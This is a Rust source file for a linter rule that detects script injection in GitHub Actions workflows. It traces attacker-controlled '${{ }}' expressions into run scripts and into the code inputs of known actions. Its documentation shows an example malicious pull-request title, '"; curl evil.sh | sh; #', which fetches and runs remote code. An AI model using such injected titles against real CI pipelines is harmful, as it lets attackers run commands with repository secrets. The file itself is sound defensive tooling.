//! `workflow-injection`: attacker-controlled `${{ … }}` expanded into a script.

use infra_lint_core::parse::workflow::Expr;
use infra_lint_core::{Finding, Model, Severity, Span};

use crate::ci::taint::{Level, Scope};
use crate::ci::{step_path, workflows, EXPOSED_TRIGGERS};
use crate::declare_rule;
use crate::rule::Rule;

declare_rule! {
    /// ## What it does
    /// Follows attacker-controlled values into code. Sources are the texts an outsider writes
    /// (issue, pull-request, comment, review and discussion titles and bodies, branch names such
    /// as `github.head_ref`, commit messages and author names, wiki page names, the previous
    /// text of edited issues and comments) and everything derived from them: `env:` entries
    /// (workflow, job, step) set from them, `matrix` values built from them, step outputs a
    /// `run:` script computes from them, job outputs, and the `inputs` of local composite
    /// actions and reusable workflows that a local caller (`uses: ./…`, across files) feeds
    /// with them, and the outputs of local composite actions and reusable workflows
    /// (`steps.<id>.outputs.*` of a `uses: ./…` step, `needs.<job>.outputs.*` of a `uses: ./…`
    /// job), followed into the called file. Expressions are parsed, so only what reaches the result counts
    /// (`github.event.issue.title == 'x' && 'yes'` expands a literal; `toJSON(github.event)`
    /// dumps everything).
    ///
    /// Sinks are `run:` scripts of every shell and the code inputs of well-known actions
    /// (`actions/github-script` `script`, `mikefarah/yq` `cmd`, `Amadevus/pwsh-script`
    /// `script`, `jannekem/run-python-script-action` `script`, `azure/cli` `inlineScript`,
    /// `appleboy/ssh-action` `script`, `nick-fields/retry` `command`, …). Each tainted
    /// `${{ … }}` is reported at its exact column, with the chain it came through as related
    /// locations.
    ///
    /// Severity: `critical` for attacker-controlled text in a workflow that outsiders can start
    /// with the base repository's secrets and write token (`pull_request_target`,
    /// `issue_comment`, `issues`, `discussion`, `discussion_comment`, `workflow_run`), `high`
    /// otherwise. Values whose origin the files do not show — outputs of actions, `inputs.*` of
    /// an action or reusable workflow with no local caller, `needs.*.outputs`, dispatch
    /// payloads — are reported at `low` (`medium` on those triggers): they cannot be proven safe.
    /// So are values the analysis cannot prove safe by their kind: branch and tag names
    /// (`github.ref`, `github.ref_name`, `github.base_ref` — except `github.ref*` in a workflow
    /// that only `pull_request` starts, where it is `refs/pull/<n>/merge`), event fields that are
    /// not identifiers, numbers, hashes, booleans, timestamps, enumerations, URLs, logins or
    /// repository names (release tags and names, label names, …), a property of a value computed
    /// at run time (`(a || b).x`), and `matrix` values computed by an expression. `secrets`,
    /// `vars`, `runner`, `job`, `strategy`, step outcomes and job results are not reported.
    /// An `env.NAME` that no `env:` block sets is judged by the earlier step that exports it
    /// through `$GITHUB_ENV` (a literal is safe, anything the shell computes is unknown), and is
    /// unknown when nothing in the file exports it (an action or the caller did).
    ///
    /// With `[ci] pedantic = true` it also reports, at each context an expanded expression
    /// reads, expansions whose value is not known to be attacker-controlled (`github.event_name`,
    /// `matrix.*` with fixed values, `secrets.*` …), at `low`.
    ///
    /// ## Why is this bad?
    /// Expressions are substituted into the script text *before* the shell runs. A pull request
    /// titled `"; curl evil.sh | sh; #` becomes part of the command, and runs with the job's
    /// token and secrets.
    ///
    /// ## How to fix
    /// Pass the value through an environment variable and quote it in the script; the shell then
    /// treats it as data.
    ///
    /// ## Example
    /// ```yaml
    /// # bad
    /// - run: echo "${{ github.event.issue.title }}"
    /// ```
    /// ```yaml
    /// # good
    /// - run: echo "$TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// ## References
    /// - <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
    /// - <https://securitylab.github.com/resources/github-actions-untrusted-input/>
    pub struct WorkflowInjection {
        id: "workflow-injection",
        severity: High,
        formats: [Workflow, Action],
        tags: ["security", "ci", "injection"],
        precision: "high",
        summary: "Attacker-controlled ${{ }} expression expanded inside a run script",
        aliases: ["template-injection"],
    }
}

/// Action inputs that are code (`action`, `input`, lower case): their expressions are expanded
/// into a script that the action runs.
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("jannekem/run-python-script-action", "script"),
    ("amadevus/pwsh-script", "script"),
    ("appleboy/ssh-action", "script"),
    ("appleboy/ssh-action", "script_stop"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("mikefarah/yq", "cmd"),
    ("cardinalby/js-eval-action", "expression"),
    ("nick-fields/retry", "command"),
    ("nick-invision/retry", "command"),
    ("wandalen/wretry.action", "command"),
    ("garygrossgarten/github-action-ssh", "command"),
    ("jimcronqvist/action-ssh", "command"),
    ("cloudflare/wrangler-action", "command"),
    ("cloudflare/wrangler-action", "precommands"),
    ("cloudflare/wrangler-action", "postcommands"),
    ("addnab/docker-run-action", "run"),
    ("addnab/docker-run-action", "options"),
    ("devorbitus/yq-action-output", "cmd"),
    ("sergeysova/jq-action", "cmd"),
    // inputs evaluated as JavaScript template literals or `eval`ed by the action
    ("8398a7/action-slack", "custom_payload"),
    ("skitionek/notify-microsoft-teams", "overwrite"),
    ("gautamkrishnar/blog-post-workflow", "item_exec"),
    ("roots/issue-closer-action", "issue-close-message"),
    ("roots/issue-closer-action", "pr-close-message"),
    ("lucasbento/auto-close-issues", "issue-close-message"),
    ("imjohnbo/issue-bot", "body"),
    ("imjohnbo/issue-bot", "linked-comments-previous-issue-text"),
    ("imjohnbo/issue-bot", "linked-comments-new-issue-text"),
    ("tibdex/backport", "body_template"),
    ("tibdex/backport", "head_template"),
    ("tibdex/backport", "labels_template"),
    ("tibdex/backport", "title_template"),
    ("tj-actions/eslint-changed-files", "extra_args"),
    ("actions-rs/cargo", "args"),
    ("gorelease/goreleaser-action", "args"),
    ("peter-evans/create-or-update-comment", "body-file"),
    ("benc-uk/workflow-dispatch", "inputs"),
];

/// The code inputs of an action reference (`owner/repo[/path]@ref`).
fn code_inputs(uses: &str) -> impl Iterator<Item = &'static str> + '_ {
    let name = uses.split('@').next().unwrap_or("").to_ascii_lowercase();
    CODE_INPUTS.iter().filter(move |(a, _)| name == *a).map(|(_, i)| *i)
}

/// The context references of an expression's source text (`${{ … }}`): dotted paths outside
/// string literals and not called as functions, with their byte ranges in `raw`.
fn context_refs(raw: &str) -> Vec<(usize, usize)> {
    let b = raw.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'-';
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'\'' {
            // a string literal: `''` is an escaped quote inside it
            i += 1;
            while i < b.len() {
                if b[i] == b'\'' {
                    if b.get(i + 1) == Some(&b'\'') {
                        i += 2;
                        continue;
                    }
                    break;
                }
                i += 1;
            }
            i += 1;
            continue;
        }
        if c.is_ascii_alphabetic() || c == b'_' {
            let start = i;
            let mut dotted = false;
            while i < b.len() && (ident(b[i]) || b[i] == b'.' || b[i] == b'*') {
                dotted |= b[i] == b'.';
                i += 1;
            }
            let rest = raw.get(i..).unwrap_or("").trim_start();
            if dotted && !rest.starts_with('(') {
                out.push((start, i));
            }
            continue;
        }
        if c.is_ascii_digit() {
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.') {
                i += 1;
            }
            continue;
        }
        i += 1;
    }
    out
}

/// Pedantic: each context an expression expanded into a sink reads, when its value is not known
/// to be attacker-controlled or unknown (those are reported anyway): expanding any value into
/// code is fragile, and an `env:` variable is the robust form.
fn pedantic_refs(
    model: &Model,
    expr: &Expr,
    sink: &str,
    step: &infra_lint_core::parse::workflow::Step,
    job: Option<&infra_lint_core::parse::workflow::Job>,
    out: &mut Vec<Finding>,
) {
    let raw = model.text(expr.span);
    let inner_start = raw.find("${{").map_or(0, |i| i + 3);
    let inner_end = raw.rfind("}}").unwrap_or(raw.len());
    let inner = raw.get(inner_start..inner_end).unwrap_or("");
    for (s, e) in context_refs(inner) {
        let path = inner.get(s..e).unwrap_or("");
        let start = expr.span.start as usize + inner_start + s;
        let span = Span::new(expr.span.file, start, start + (e - s));
        out.push(
            Finding::new(
                WorkflowInjection::META.id,
                Severity::Low,
                span,
                format!(
                    "`{path}` is expanded into the {sink} of step \"{}\"; it is not known to be attacker-controlled, but text pasted into code runs as code if it ever holds quotes or `$(…)`",
                    step.label()
                ),
            )
            .fix("Pass the value through `env:` and use the quoted shell variable (\"$VAR\") instead of `${{ }}`")
            .key(format!("{}:{path}:pedantic", step_path(job, &step.label())))
            .env(model.env_of(span)),
        );
    }
}

impl Rule for WorkflowInjection {
    fn meta(&self) -> &'static crate::rule::RuleMeta {
        &Self::META
    }

    fn check(&self, model: &Model, out: &mut Vec<Finding>) {
        for (file, wf) in workflows(model) {
            let exposed = wf.triggers.iter().find(|t| EXPOSED_TRIGGERS.contains(&t.value.as_str()));
            for (job, step) in wf.all_steps() {
                let mut sinks: Vec<(String, &[Expr])> = Vec::new();
                if let Some(run) = &step.run {
                    sinks.push(("`run:` script".to_owned(), &run.expressions));
                }
                if let Some(uses) = &step.uses {
                    for input in code_inputs(&uses.value) {
                        if let Some(code) = step.with.iter().find(|e| e.key.eq_ignore_ascii_case(input)) {
                            sinks.push((format!("`{}:` code input", code.key), &code.expressions));
                        }
                    }
                }
                let scope = Scope { model, file, wf, job, step: Some(step) };
                for (sink, exprs) in sinks {
                    for expr in exprs {
                        let Some(taint) = scope.taint_of(&expr.text) else {
                            if crate::ci::pedantic(model) {
                                pedantic_refs(model, expr, &sink, step, job, out);
                            }
                            continue;
                        };
                        let attacker = taint.level == Level::Attacker;
                        let severity = match (attacker, exposed.is_some()) {
                            (true, true) => Severity::Critical,
                            (true, false) => Severity::High,
                            (false, true) => Severity::Medium,
                            (false, false) => Severity::Low,
                        };
                        let shown = format!("`{}`", expr.text.split_whitespace().collect::<Vec<_>>().join(" "));
                        let why = taint.why.map(|w| format!(": {w}")).unwrap_or_default();
                        let origin = if taint.chain.is_empty() || expr.text.trim().eq_ignore_ascii_case(&taint.origin) {
                            taint.why.map(|w| format!(" ({w})")).unwrap_or_default()
                        } else {
                            format!(" (it carries `{}`{why})", taint.origin)
                        };
                        let mut msg = if attacker {
                            format!(
                                "{shown} is attacker-controlled{origin} and is expanded into the {sink} of step \"{}\"; crafted input can run arbitrary commands",
                                step.label()
                            )
                        } else {
                            format!(
                                "{shown} is expanded into the {sink} of step \"{}\" but its value is not known to be safe{origin}: whoever controls it can run commands",
                                step.label()
                            )
                        };
                        if let Some(t) = exposed {
                            msg.push_str(&format!(
                                " with this workflow's secrets and write token (`{}` trigger)",
                                t.value
                            ));
                        }
                        let mut f = Finding::new(Self::META.id, severity, expr.span, msg)
                            .fix("Pass the value through `env:` and use the quoted shell variable (\"$VAR\") instead of `${{ }}`")
                            .key(format!("{}:{}", step_path(job, &step.label()), taint.origin))
                            .env(model.env_of(expr.span));
                        for hop in &taint.chain {
                            f = f.related(hop.span, hop.note.clone());
                        }
                        if let Some(t) = exposed {
                            f = f.related(t.span, format!("`{}` runs with the base repository's secrets", t.value));
                        }
                        out.push(f);
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::context_refs;

    #[test]
    fn context_references_outside_literals_and_calls() {
        let refs = |t: &str| context_refs(t).into_iter().map(|(s, e)| t[s..e].to_owned()).collect::<Vec<_>>();
        assert_eq!(refs(" github.event_name "), vec!["github.event_name"]);
        assert_eq!(refs("fromJSON(inputs.free-threading) && '_x.y' || ''"), vec!["inputs.free-threading"]);
        assert_eq!(refs("some.ctx\n && foo.bar\n || baz.qux"), vec!["some.ctx", "foo.bar", "baz.qux"]);
        assert_eq!(refs("format('{0}', 'it''s a.b') == 1.5"), Vec::<String>::new());
        assert_eq!(refs("github.event.commits.*.message"), vec!["github.event.commits.*.message"]);
    }
}
